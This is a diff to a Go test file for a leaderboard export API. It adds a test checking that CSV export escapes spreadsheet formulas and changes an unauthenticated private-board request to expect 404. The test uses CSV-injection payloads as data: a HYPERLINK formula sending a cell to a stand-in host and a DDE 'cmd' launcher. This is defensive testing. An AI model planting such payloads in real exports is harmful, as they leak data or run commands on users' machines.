@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"net/url"
 	"strconv"
 	"strings"
 	"testing"
@@ -170,7 +171,7 @@ func TestExportRefusals(t *testing.T) {
 	}{
 		{"/v1/boards/priv/export?format=xml", adminKey, 400, "invalid_argument"},
 		{"/v1/boards/priv/export?format=csv&limit=5", adminKey, 400, "invalid_argument"},
-		{"/v1/boards/priv/export", "", 401, "unauthenticated"},
+		{"/v1/boards/priv/export", "", 404, "board_not_found"}, // a private board is unknown to who may not read it
 		{"/v1/boards/nope/export", adminKey, 404, "board_not_found"},
 		{"/v1/boards/priv/export?period=1999-01-01", adminKey, 400, "invalid_argument"},
 	} {
@@ -182,5 +183,47 @@ func TestExportRefusals(t *testing.T) {
 	r := s.must(200, s.do("GET", "/v1/boards/priv/export?include_hidden=true", adminKey, ""))
 	if got := strings.SplitN(string(r.body), "\n", 2)[0]; got != "rank,player,name,score,at,hidden,meta" {
 		t.Errorf("header row with include_hidden: %s", got)
+	}
+}
+
+// TestExportCSVFormulas: text cells that a spreadsheet would run as a
+// formula are written with a leading apostrophe (internal/csvcell), numbers
+// (a negative key) stay numbers, and JSON Lines carries the exact text.
+func TestExportCSVFormulas(t *testing.T) {
+	s := newServer(t)
+	s.mkBoard("f", `{"keys":[{"name":"delta","order":"desc"}],"public":true}`)
+	evil := `=HYPERLINK("http://x.example/?"&A1,"click me")`
+	s.must(200, s.do("PUT", "/v1/players/"+url.PathEscape(evil), adminKey, `{"name":"+1+cmd|' /C calc'!A0"}`))
+	s.must(200, s.do("PUT", "/v1/players/at", adminKey, `{"name":"@SUM(1+1)"}`))
+	s.must(200, s.do("PUT", "/v1/players/q", adminKey, `{"name":"'-quoted"}`))
+	for _, p := range []struct {
+		player string
+		key    int
+	}{{evil, 3}, {"at", 2}, {"q", 1}, {"-neg", -40}} {
+		s.must(200, s.do("POST", "/v1/boards/f/scores", adminKey, fmt.Sprintf(`{"player":%q,"keys":[%d]}`, p.player, p.key)))
+	}
+	r := s.must(200, s.do("GET", "/v1/boards/f/export", "", ""))
+	rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, row := range rows[1:] {
+		got = append(got, strings.Join([]string{row[0], row[1], row[2], row[3], row[5]}, "|"))
+	}
+	want := []string{
+		`1|'` + evil + `|'+1+cmd|' /C calc'!A0|3|{}`,
+		`2|at|'@SUM(1+1)|2|{}`,
+		`3|q|''-quoted|1|{}`,
+		`4|'-neg|'-neg|-40|{}`, // the name defaults to the id
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Fatalf("CSV rows:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	r = s.must(200, s.do("GET", "/v1/boards/f/export?format=jsonl", "", ""))
+	lines := strings.Split(string(r.body), "\n")
+	var e map[string]any
+	if err := json.Unmarshal([]byte(lines[1]), &e); err != nil || e["player"] != evil || e["name"] != "+1+cmd|' /C calc'!A0" {
+		t.Fatalf("JSON Lines entry: %s (%v)", lines[1], err)
 	}
 }
